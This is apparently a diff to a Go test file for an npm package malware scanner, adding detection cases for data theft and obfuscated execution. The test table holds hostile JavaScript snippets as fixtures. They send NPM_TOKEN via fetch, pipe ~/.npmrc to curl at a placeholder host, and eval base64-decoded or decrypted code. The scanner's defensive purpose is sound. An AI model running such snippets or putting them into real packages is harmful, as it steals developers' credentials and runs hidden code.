@@ -149,7 +149,15 @@ var uses = map[string]struct{ once, never []string }{
 	"command-hidden":   {once: []string{`require('child_process').exec('node x.js > /dev/null')`}, never: []string{`require('child_process').exec('node x.js')`}},
 	"command-traces":   {once: []string{`require('child_process').exec('rm package.json')`}, never: []string{`require('child_process').exec('rm -rf dist')`}},
 	"command-secrets":  {once: []string{`require('child_process').exec('cat ~/.npmrc')`}, never: []string{`require('child_process').exec('cat README.md')`}},
-	"command-publish":  {once: []string{`require('child_process').exec('npm publish')`}, never: []string{`require('child_process').exec('npm --version')`}},
+	"collect-and-send": {
+		once:  []string{`fetch(u, {body: process.env.NPM_TOKEN}); fetch(v)`, `require('dns').lookup(require('os').hostname(), f)`, `require('child_process').exec('cat ~/.npmrc | curl -d @- http://h.invalid/')`},
+		never: []string{`fetch(u)`, `x.password`, `fetch(u, {body: process.env.HOME})`, `require('os').hostname(); require('child_process').exec(x)`},
+	},
+	"decode-and-run": {
+		once:  []string{`eval(atob(x)); eval(y)`, `require('child_process').exec(Buffer.from(x, 'base64').toString())`, `require('vm').runInThisContext(require('crypto').createDecipheriv(a, b, c).update(d))`},
+		never: []string{`atob(x)`, `eval(x)`, `fetch(atob(x))`},
+	},
+	"command-publish": {once: []string{`require('child_process').exec('npm publish')`}, never: []string{`require('child_process').exec('npm --version')`}},
 }
 
 // dense is text in base64 that stands for no known kind of data.
@@ -164,7 +172,7 @@ func dense() string {
 }
 
 // packageFeatures are tested apart: they are not of scripts alone.
-var packageFeatures = []string{nameInstallScripts, nameBinary, nameEntropyAverage, nameEntropyDeviation, nameUpdateType, nameTime, nameInstallOnly, nameDependencies, nameRemote, nameMismatch}
+var packageFeatures = []string{nameInstallScripts, nameBinary, nameEntropyAverage, nameEntropyDeviation, nameUpdateType, nameTime, nameInstallOnly, nameDependencies, nameRemote, nameUnused, nameMismatch, nameNewCapabilities}
 
 func TestUses(t *testing.T) {
 	for i := range Table {
@@ -251,6 +259,15 @@ func TestPackageFeatures(t *testing.T) {
 		if diff := cmp.Diff(want, occurrences(s, feature)); diff != "" {
 			t.Errorf("%s (-want +got):\n%s", feature, diff)
 		}
+	}
+	unused := func(files ...string) []string {
+		return occurrences(set(append([]string{"package.json", `{"dependencies":{"a":"1","@b/c":"1","d":"1","@types/e":"1"},"optionalDependencies":{"f":"1"}}`}, files...)...), "unused-dependencies")
+	}
+	if diff := cmp.Diff([]string{"package.json:0:0 d", "package.json:0:0 f"}, unused("a.js", "require('a/x')", "b.mjs", "import c from '@b/c/y/z'")); diff != "" {
+		t.Errorf("unused-dependencies (-want +got):\n%s", diff)
+	}
+	if got := unused("a.js", strings.Repeat("((", 20_000)); got != nil {
+		t.Errorf("unused-dependencies beside a script that was not read: %q", got)
 	}
 	// 1, 5, 6, 8 and 0: mean 4, variance (9+1+4+16+16)/5 = 9.2
 	if diff := cmp.Diff(map[string]float64{"entropy-average": 4, "entropy-deviation": 3.0332}, s.Measures); diff != "" {
